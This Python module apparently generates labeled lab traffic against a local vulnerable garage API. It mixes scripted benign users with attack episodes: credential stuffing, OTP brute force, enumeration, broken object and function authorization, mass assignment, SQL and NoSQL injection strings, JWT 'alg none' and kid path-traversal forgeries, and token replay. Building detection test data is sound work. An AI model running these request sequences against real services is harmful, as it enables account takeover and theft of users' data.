"""A day in the garage: owners of cars, mechanics, and attacks as testers make them."""
import base64
import hashlib
import json

import jwt

from ..lab.actors import Ask, PROFILES, Wait
from ..lab.cast import Cast, again, jar
from ..lab.server import Running, python, wait_for

SOFTWARE = {"server": "Starlette on uvicorn", "clients": "http.client with the header orders of browsers and libraries"}
PORT = 5641
ID, SHOP, TALK = "/identity/api", "/workshop/api", "/community/api/v2"
PROFILES["dart"] = ("Dart/3.9 (dart:io)", ["User-Agent", "Content-Type", "Accept-Encoding", "Content-Length", "Authorization", "Host"])
PROFILES["axios"] = ("axios/1.11.0", ["Accept", "Content-Type", "Authorization", "User-Agent", "Content-Length", "Accept-Encoding", "Host", "Connection"])


def start(_out):
    """Starts the garage."""
    process = python("scripts.lab.garage.app", PORT, 64)
    wait_for(PORT)
    return Running("garage.example:5641", PORT, PORT, [process])


def email(n):
    """Address of an owner."""
    first = ("adam", "priya", "kofi", "yuki", "marta", "omar", "lena", "raul")[n % 8]
    return f"{first}.{n:02}@{('mail', 'post', 'inbox')[n % 3]}.example"


def secret(n):
    """Its password."""
    return f"{('adam', 'priya', 'kofi', 'yuki', 'marta', 'omar', 'lena', 'raul')[n % 8].title()}!{n * 37 % 91}"


def leaked(n):
    """A pair from somebody else's leak."""
    return f"{('j.doe', 'marie', 'x.li', 'bob', 'hans')[n % 5]}{n}@{('gmail', 'yahoo', 'web')[n % 3]}.example", f"hunter{n}"


def login(who, word):
    """Sign-in."""
    return Ask("POST", f"{ID}/auth/login", body={"email": who, "password": word})


class Day(Cast):
    """Writes the script of the day."""

    NET, AGENTS = 84, (("chrome", None), ("chrome", "Mozilla/5.0 (Linux; Android 15) AppleWebKit/537.36 Chrome/138.0.0.0 Mobile Safari/537.36"),
                       ("firefox", None), ("safari", None), ("dart", None))

    def owner(self, n, note="owner", **place):
        """An owner of a car and the client."""
        client = self.person(email(n), note, **place)
        client.number, client.word = n, secret(n)
        return client

    # What people do -------------------------------------------------------------------------------------------

    def ask(self, client, method, path, body=None, **more):
        """One call with the own token."""
        return Ask(method, path, body=body, token=client.token, **more)

    def enter(self, client, wrong=0):
        """Signs in after typing errors; then the start page asks for this and that."""
        for n in range(wrong):
            yield login(client.who, client.word[:-1] + "xyzq"[n])
            yield self.think(7)
        answer = yield login(client.who, client.word)
        client.token = answer.json().get("token")
        if not client.token:
            raise SystemExit(f"{client.who} cannot sign in: {answer.text}")
        yield self.ask(client, "GET", f"{ID}/v2/user/dashboard")
        client.cars = (yield self.ask(client, "GET", f"{ID}/v2/vehicle/vehicles")).json()

    def visit(self, client, wrong=0, steps=None):
        """Looks for the car, reads posts, buys, brings the car in."""
        yield from self.enter(client, wrong)
        for _ in range(steps or self.draw.randint(4, 14)):
            yield self.think(14)
            what = self.draw.random()
            if what < 0.3 and isinstance(client.cars, list):
                for _ in range(self.draw.randint(1, 3)):
                    yield self.ask(client, "GET", f"{ID}/v2/vehicle/{self.draw.choice(client.cars)['uuid']}/location")
                    yield self.think(5)
            elif what < 0.55:
                found = (yield self.ask(client, "GET", f"{TALK}/community/posts/recent?limit=10&offset={self.draw.choice([0, 0, 0, 10])}")).json().get("posts", [])
                for item in self.draw.sample(found, min(2, len(found))):
                    yield self.think(10)
                    yield self.ask(client, "GET", f"{TALK}/community/posts/{item['id']}")
                    if self.draw.random() < 0.2:
                        yield self.ask(client, "POST", f"{TALK}/community/posts/{item['id']}/comment", {"content": "Same here; it's the belt -- trust me (really)"})
                if self.draw.random() < 0.1:
                    yield self.ask(client, "POST", f"{TALK}/community/posts", {"title": "Which oil?", "content": "5W-30 or 'the other'?"})
            elif what < 0.8:
                yield self.ask(client, "GET", f"{SHOP}/shop/products")
                yield self.think(8)
                found = (yield self.ask(client, "GET", f"{SHOP}/shop/orders/all?limit=30&offset=0")).json().get("orders", [])
                for item in self.draw.sample(found, min(2, len(found))):
                    yield self.think(6)
                    yield self.ask(client, "GET", f"{SHOP}/shop/orders/{item['id']}")
                if found and self.draw.random() < 0.15:
                    yield self.ask(client, "POST", f"{SHOP}/shop/orders/return_order?order_id={found[-1]['id']}")
            elif what < 0.9:
                yield from self.buy(client)
            else:
                yield from self.repair(client)
        if self.draw.random() < 0.4:
            yield self.ask(client, "POST", f"{ID}/auth/logout")

    def buy(self, client):
        """Buys, with a coupon now and then, mistyped now and then."""
        yield self.ask(client, "GET", f"{SHOP}/shop/products")
        if self.draw.random() < 0.4:
            for code in self.draw.choice([["TRAC075"], ["TRACO75", "TRAC075"], ["SPRING1O", "spring10", "SPRING10"]]):
                answer = yield self.ask(client, "POST", f"{TALK}/coupon/validate-coupon", {"coupon_code": code})
                yield self.think(6)
            if answer.status == 200:
                yield self.ask(client, "POST", f"{SHOP}/shop/apply_coupon", {"coupon_code": code, "amount": int(answer.json()["amount"])})
        made = yield self.ask(client, "POST", f"{SHOP}/shop/orders", {"product_id": self.draw.randint(1, 8), "quantity": self.draw.choice([1, 1, 1, 2])})
        if made.status == 200:
            yield self.ask(client, "GET", f"{SHOP}/shop/orders/{made.json()['id']}")
            if self.draw.random() < 0.2:
                yield self.ask(client, "PUT", f"{SHOP}/shop/orders/{made.json()['id']}", {"product_id": 2, "quantity": 2})

    def repair(self, client):
        """Asks the garage, and opens the report."""
        yield self.ask(client, "GET", f"{SHOP}/mechanic/")
        yield self.think(20)
        made = yield self.ask(client, "POST", f"{SHOP}/merchant/contact_mechanic", {
            "mechanic_code": "TRAC_JHN", "problem_details": "It's loud", "vin": client.cars[0]["vin"] if client.cars else "", "mechanic_api":
            "http://garage.example/workshop/api/mechanic/receive_report", "repeat_request_if_failed": False, "number_of_repeats": 1})
        link = made.json().get("response_from_mechanic_api", {}).get("report_link", "")
        yield self.think(6)
        if link:
            yield self.ask(client, "GET", link.removeprefix("http://garage.example"))

    def forgot(self, client, wrong, version="v3"):
        """Has a code sent, mistypes it, and sets a new password."""
        yield Ask("POST", f"{ID}/auth/forget-password", body={"email": client.who})
        yield self.think(30)
        right = f"{int(hashlib.sha1((client.who + 'otp').encode()).hexdigest(), 16) % 10000:04}"
        client.word = client.word + "new"
        for code in [f"{(int(right) + 1 + n) % 10000:04}" for n in range(wrong)] + [right]:
            yield Ask("POST", f"{ID}/auth/{version}/check-otp", body={"email": client.who, "otp": code, "password": client.word})
            yield self.think(12)
        yield from self.visit(client, steps=3)

    def newcomer(self, client, name):
        """Signs up and looks around."""
        client.word = "Newcomer!1"
        yield Ask("POST", f"{ID}/auth/signup", body={"email": client.who, "name": name, "number": "7012345678", "password": client.word})
        yield self.think(5)
        yield from self.visit(client, steps=4)

    def film(self, client):
        """Uploads a video and names it."""
        yield from self.enter(client)
        body = b'--b7\r\nContent-Disposition: form-data; name="file"; filename="trip.mp4"\r\nContent-Type: video/mp4\r\n\r\n' + bytes(range(256)) * 30 + b"\r\n--b7--\r\n"
        made = yield self.ask(client, "POST", f"{ID}/v2/user/videos", data=(body, "multipart/form-data; boundary=b7"))
        yield self.think(10)
        yield self.ask(client, "PUT", f"{ID}/v2/user/videos/{made.json().get('id')}", {"videoName": "Our trip"})
        if self.draw.random() < 0.5:
            yield self.ask(client, "DELETE", f"{ID}/v2/user/videos/{made.json().get('id')}")

    def mechanic(self, client, pages):
        """Reads what is to be done, and the reports."""
        yield from self.enter(client)
        for page in range(pages):
            found = (yield self.ask(client, "GET", f"{SHOP}/mechanic/service_requests?limit=30&offset={30 * page}")).json().get("service_requests", [])
            for item in found[:15]:
                yield self.think(25)
                yield self.ask(client, "GET", f"{SHOP}/mechanic/mechanic_report?report_id={item['id']}")

    def office(self, client):
        """The administrator: people, credit, old videos."""
        yield from self.enter(client)
        for page in range(3):
            yield self.ask(client, "GET", f"{SHOP}/management/users/all?limit=30&offset={30 * page}")
            yield self.think(20)
        for ident in (41, 42):
            yield self.ask(client, "DELETE", f"{ID}/v2/admin/videos/{ident}")
            yield self.think(10)

    def watch(self, client, every, until):
        """A widget asks where the car is."""
        yield from self.enter(client)
        for _ in range(int(until / every)):
            yield self.ask(client, "GET", f"{ID}/v2/vehicle/{client.cars[0]['uuid']}/location")
            yield Wait(every)

    def probe(self, client):
        """Monitoring."""
        for _ in range(550):
            yield Ask("GET", "/health")
            yield Wait(60)

    def roam(self, client, address):
        """The phone leaves the house."""
        yield from self.visit(client, steps=4)
        client.move(address)
        for _ in range(6):
            yield self.ask(client, "GET", f"{ID}/v2/vehicle/{client.cars[0]['uuid']}/location")
            yield self.think(20)

    def benign(self):
        """Everybody who means no harm."""
        draw, at = self.draw, self.at
        for n in range(40):
            client = self.owner(n)
            for visit in range(max(1, round(draw.choice([2, 3, 4]) * self.scale))):
                own = again(client) if visit else client
                own.word = client.word
                at(draw.uniform(0, 9.5), self.visit(own, draw.choice([0] * 8 + [1, 1, 2, 3])), own)
        probe = self.person("probe", "monitoring", profile="curl")
        at(0.01, self.probe(probe), probe)
        for n, hour in ((40, 1.1), (41, 3.2), (42, 6.5), (43, 7.5)):
            client = self.owner(n, "forgot the password, mistypes the code")
            at(hour, self.forgot(client, n % 4), client)
        for n, hour in ((0, 2.2), (1, 2.4), (2, 4.4), (3, 5.6), (4, 7.7)):
            client = self.person(f"new{n}@mail.example", "signs up")
            at(hour, self.newcomer(client, f"New {n}"), client)
        for n, hour in ((44, .4), (45, 1.9), (46, 3.3), (47, 4.1), (48, 5.1), (49, 6.2)):
            client = self.owner(n, "uploads a video")
            at(hour, self.film(client), client)
        for n, who in enumerate(("jhn", "mhk")):
            client = self.person(f"{who}@garage.example", "mechanic")
            client.word = "Mechanic1!"
            for hour in (0.6 + n, 4.2 + n):
                own = again(client)
                own.word = client.word
                at(hour, self.mechanic(own, 3), own)
        client = self.person("admin@garage.example", "administrator")
        client.word = "Admin!123"
        for hour in (1.4, 5.9):
            own = again(client)
            own.word = client.word
            at(hour, self.office(own), own)
        client = self.owner(50, "widget asks every 30 s where the car is", profile="dart")
        at(1.0, self.watch(client, 30, 7 * 3600), client)
        client = self.owner(51, "phone moves from Wi-Fi to mobile", profile="dart")
        at(2.5, self.roam(client, "127.99.4.4"), client)
        for n in (52, 53):
            client = self.owner(n, "household behind one address", address="127.99.1.1", profile="chrome")
            at(3.0 + n / 100, self.visit(client, 1), client)

    # The attacks -----------------------------------------------------------------------------------------------

    def stuff(self, pairs, pause):
        """Tries pairs."""
        yield from self.fire((login(*pair) for pair in pairs), pause)

    def mine(self, n, episode, *args, **more):
        """An attacker with an account of the house; signs up for real."""
        client = self.foe(episode, *args, username=[f"evil{n}@mail.example"], **more)
        client.who, client.word = f"evil{n}@mail.example", "Evil!1234"
        return client

    def join(self, client):
        """Makes an account and uses it as others do, for a moment."""
        yield Ask("POST", f"{ID}/auth/signup", body={"email": client.who, "name": "E", "number": "7000000000", "password": client.word})
        yield from self.enter(client)

    def attacks(self):
        """All of them."""
        self.accounts()
        self.objects()
        self.tokens()

    def accounts(self):
        """Passwords, names and codes."""
        draw, at = self.draw, self.at
        pairs = [leaked(n) for n in range(70)] + [(email(54), secret(54))]
        draw.shuffle(pairs)
        client = self.foe("G01-stuffing", "credential_stuffing", "71 pairs from one address, 1 right", "requests", success=True)
        at(5.3, self.stuff(pairs, 2), client)
        pairs = [leaked(n) for n in range(100, 160)] + [(email(55), secret(55))]
        for n, client in enumerate(self.foe("G02-stuffing-spread", "credential_stuffing", "30 addresses, two pairs each, within an hour", "chrome", count=30, volume="distributed", success=True)):
            at(6.1 + n / 30, self.stuff(pairs[2 * n:2 * n + 2 + (n == 29)], 25), client)
        client = self.foe("G03-stuffing-slow", "credential_stuffing", "28 pairs over six hours", "firefox", volume="low-and-slow")
        at(2.9, self.stuff([leaked(n) for n in range(200, 228)], 760), client)
        client = self.foe("G04-brute", "brute_force", "hydra: 120 passwords on one account, last right", "curl", "Mozilla/5.0 (Hydra)", success=True)
        at(4.6, self.stuff([(email(56), f"pass{n}") for n in range(119)] + [(email(56), secret(56))], 0.7), client)
        client = self.foe("G05-brute-slow", "brute_force", "a password every 100 s on one account", "safari", volume="low-and-slow")
        at(6.0, self.stuff([(email(57), f"{word}{n}") for n in range(6) for word in ("Lena", "lena", "Lena!", "Summer", "Secret")], 100), client)
        client = self.foe("G06-spray", "password_spraying", "one password on 45 accounts", "axios")
        at(7.1, self.stuff([(email(n), "Winter2026!") for n in draw.sample(range(54), 45)], 30), client)
        client = self.foe("G07-enum-reset", "user_enumeration", "ffuf on forget-password: 80 addresses", "go", "Fuzz Faster U Fool v2.1.0-dev", accept=["brute_force"])
        at(5.7, self.fire([Ask("POST", f"{ID}/auth/forget-password", body={"email": who}) for who in [leaked(n)[0] for n in range(300, 376)] + [email(n) for n in (3, 9, 12, 20)]], 0.2), client)
        client = self.foe("G08-enum-signup", "user_enumeration", "sign-up says who exists: 50 addresses, slowly", "requests", volume="low-and-slow")
        at(3.9, self.fire([Ask("POST", f"{ID}/auth/signup", body={"email": email(n), "name": "a", "number": "1", "password": "x"}) for n in range(50)], 45), client)
        client = self.foe("G09-otp", "brute_force", "intruder on check-otp v2 for one account: 200 codes, then right, then in", "chrome", success=True, accept=["account_takeover"])
        at(8.1, self.guess(client, 58, 200, 0.4, "v2"), client)
        client = self.foe("G10-otp-limited", "brute_force", "12 codes on v3, then blocked", "requests", volume="quiet")
        at(7.3, self.guess(client, 59, 12, 8, "v3"), client)

    def guess(self, client, n, count, pause, version):
        """Has a code sent to the victim and guesses it."""
        yield Ask("POST", f"{ID}/auth/forget-password", body={"email": email(n)})
        right = int(hashlib.sha1((email(n) + "otp").encode()).hexdigest(), 16) % 10000
        codes = [f"{(right - count + k) % 10000:04}" for k in range(count)] + [f"{right:04}"] * (version == "v2")
        yield from self.fire([Ask("POST", f"{ID}/auth/{version}/check-otp", body={"email": email(n), "otp": code, "password": "Owned!1"}) for code in codes], pause)
        if version == "v2":
            client.who, client.word = email(n), "Owned!1"
            yield from self.enter(client)

    def objects(self):
        """What is not theirs, what is not for them."""
        at, ask = self.at, self.ask
        client = self.mine(1, "G11-locations", "bola_enumeration", "locations of all cars named in posts", success=True, profile="chrome")
        at(4.9, self.locate(client, 40, 3), client)
        client = self.mine(2, "G12-location-one", "bola", "location of one car of another", success=True, profile="safari", volume="quiet")
        at(6.7, self.locate(client, 1, 30), client)
        client = self.mine(3, "G13-reports", "bola_enumeration", "intruder: report_id=1..60", success=True, profile="firefox")
        at(5.0, self.then(client, lambda c: [ask(c, "GET", f"{SHOP}/mechanic/mechanic_report?report_id={n}") for n in range(1, 61)], 0.6), client)
        client = self.mine(4, "G14-orders-slow", "bola_enumeration", "18 orders of others over two hours", success=True, profile="dart", volume="low-and-slow")
        at(6.2, self.then(client, lambda c: [ask(c, "GET", f"{SHOP}/shop/orders/{n * 7 + 3}") for n in range(18)], 400), client)
        client = self.mine(5, "G15-order-change", "bola", "opens one order of another and has it sent back", success=True, profile="chrome", volume="quiet", accept=["mass_assignment"])
        at(7.9, self.then(client, lambda c: [ask(c, "GET", f"{SHOP}/shop/orders/77"), ask(c, "PUT", f"{SHOP}/shop/orders/77", {"quantity": 1, "product_id": 1}), ask(c, "GET", f"{SHOP}/shop/orders/78")], 20), client)
        client = self.mine(6, "G16-admin-videos", "bfla", "DELETE on the administrators' videos", success=True, profile="curl", volume="quiet")
        at(5.2, self.then(client, lambda c: [ask(c, "DELETE", f"{ID}/v2/user/videos/44"), ask(c, "DELETE", f"{ID}/v2/admin/videos/44"), ask(c, "DELETE", f"{ID}/v2/admin/videos/45")], 15), client)
        client = self.mine(7, "G17-mechanics", "bfla", "tries the mechanics' list three ways, all refused, then the management's", success=True, profile="requests")
        at(8.4, self.then(client, lambda c: [ask(c, "GET", f"{SHOP}/mechanic/service_requests"), ask(c, "GET", f"{SHOP}/mechanic/service_requests?limit=30&offset=0"),
                                           ask(c, "GET", f"{SHOP}/management/users/all?limit=30&offset=0")], 5), client)
        client = self.mine(8, "G18-refund", "mass_assignment", "changes the status of the own order to returned", success=True, profile="chrome", accept=["business_flow_abuse", "price_tampering"], volume="quiet")
        at(7.0, self.refund(client), client)
        client = self.foe("G19-signup-role", "mass_assignment", "signs up as administrator with credit", "axios", success=True, accept=["bfla"], username=["boss@mail.example"])
        client.who, client.word = "boss@mail.example", "Boss!1"
        at(8.8, self.fire([Ask("POST", f"{ID}/auth/signup", body={"email": client.who, "name": "B", "number": "1", "password": client.word, "role": "ROLE_ADMIN", "available_credit": 99999}), login(client.who, client.word)], 5), client)
        client = self.foe("G20-debug", "excessive_data_exposure", "GET /v2/debug/users: hashes of everybody", "curl", success=True, volume="quiet")
        at(8.9, self.fire([Ask("GET", f"{ID}/v2/debug/users")], 1), client)
        client = self.mine(9, "G21-rate", "rate_abuse", "contacts the mechanic 300 times", success=True, profile="requests", accept=["scraping"])
        at(6.9, self.then(client, lambda c: [ask(c, "POST", f"{SHOP}/merchant/contact_mechanic", {"mechanic_code": "TRAC_JHN", "problem_details": "x", "vin": "A", "mechanic_api": "http://x", "repeat_request_if_failed": True, "number_of_repeats": 100}) for _ in range(300)], 0.8), client)
        client = self.mine(10, "G22-scrape", "scraping", "all posts, again and again, 20 pages a minute", success=True, profile="go")
        at(4.0, self.then(client, lambda c: [ask(c, "GET", f"{TALK}/community/posts/recent?limit=10&offset={10 * (n % 4)}") for n in range(400)], 1), client)
        client = self.mine(11, "G23-injection", "injection", "operator instead of a coupon, quotes in another", success=True, profile="chrome", volume="quiet", accept=["nosql_injection", "sql_injection"])
        at(5.5, self.then(client, lambda c: [ask(c, "POST", f"{TALK}/coupon/validate-coupon", {"coupon_code": {"$ne": "1"}})] + [ask(c, "POST", f"{SHOP}/shop/apply_coupon", {"coupon_code": code, "amount": 75})
                                                                                                     for code in ("'", "0' OR '1'='1", "1'; select version() --+")], 12), client)

    def then(self, client, asks, pause):
        """Joins, then sends."""
        yield from self.join(client)
        yield from self.fire(asks(client), pause)

    def locate(self, client, count, pause):
        """Takes the ids of cars from posts."""
        yield from self.join(client)
        found = []
        for offset in (0, 10, 20):
            found += (yield self.ask(client, "GET", f"{TALK}/community/posts/recent?limit=10&offset={offset}")).json().get("posts", [])
        cars = list(dict.fromkeys(item["author"]["vehicleid"] for item in found))
        yield from self.fire([self.ask(client, "GET", f"{ID}/v2/vehicle/{car}/location") for car in cars[:count]], pause)

    def refund(self, client):
        """Buys, and says of it that it came back."""
        yield from self.join(client)
        made = yield self.ask(client, "POST", f"{SHOP}/shop/orders", {"product_id": 1, "quantity": 1})
        yield self.think(10)
        yield self.ask(client, "PUT", f"{SHOP}/shop/orders/{made.json().get('id')}", {"product_id": 1, "quantity": 100, "status": "returned"})
        yield self.ask(client, "GET", f"{SHOP}/shop/products")

    def tokens(self):
        """Forged, stolen and kept ones."""
        at = self.at
        client = self.mine(12, "G24-jwt-none", "jwt_tampering", "no signature: the community believes it", success=True, profile="curl", accept=["auth_bypass", "account_takeover"])
        at(6.4, self.forge(client, True), client)
        client = self.mine(13, "G25-jwt-refused", "jwt_tampering", "jwt_tool: claims swapped, HS256 with the public key, kid with a path; all refused", profile="requests", accept=["auth_bypass"])
        at(7.6, self.forge(client, False), client)
        for episode, profile, own, hour, count in (("G26-hijack", "curl", 60, 3.1, 9), ("G27-hijack-browser", "firefox", 61, 7.2, 5)):
            victim = self.owner(own, "robbed of the token", profile="chrome" if own == 60 else "safari")
            thief = self.foe(episode, "session_hijack", f"{count} requests with a stolen token, in turns with the owner", profile, volume="quiet", success=True, accept=["account_takeover"], victim=email(own))
            at(hour - 0.05, self.watch(victim, 40, 900), victim)
            at(hour, self.rob(thief, victim, count), thief)
        victim = self.owner(62, "signs out")
        thief = self.foe("G28-after-logout", "token_replay", "the token of somebody who signed out still works, elsewhere", "requests", volume="quiet", success=True, accept=["session_hijack", "account_takeover"], victim=email(62))
        at(5.4, self.leave(victim), victim)
        at(5.7, self.rob(thief, victim, 5), thief)

    def leave(self, client):
        """Signs in, looks around, and signs out."""
        yield from self.visit(client, steps=3)
        yield self.ask(client, "POST", f"{ID}/auth/logout")

    def rob(self, thief, victim, count):
        """Uses what the owner has."""
        jar(thief, victim)
        paths = [f"{ID}/v2/user/dashboard", f"{ID}/v2/vehicle/vehicles", f"{SHOP}/shop/orders/all?limit=30&offset=0", f"{SHOP}/shop/products"]
        yield from self.fire([self.ask(thief, "GET", paths[n % 4]) for n in range(count)], 20)

    def forge(self, client, believed):
        """Makes tokens from the own one."""
        yield from self.join(client)
        head, payload, sign = client.token.split(".")
        part = lambda value: base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()
        claims = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
        if believed:
            for who in (client.who, email(5), "admin@garage.example"):
                text = part({"alg": "none", "typ": "JWT"}) + "." + part({**claims, "sub": who}) + "."
                yield Ask("GET", f"{TALK}/community/posts/recent?limit=10&offset=0", token=text)
                yield self.think(12)
            return
        forged = [f"{head}.{part({**claims, 'sub': email(5)})}.{sign}", f"{head}.{part({**claims, 'role': 'admin'})}.{sign}",
                  jwt.encode({**claims, "sub": email(5)}, "a-public-key-that-is-long-enough-for-hs", "HS256"),
                  jwt.encode(claims, "0" * 32, "HS256", headers={"kid": "../../../../dev/null"})]
        yield from self.fire([Ask("GET", f"{ID}/v2/user/dashboard", token=text) for text in forged], 10)
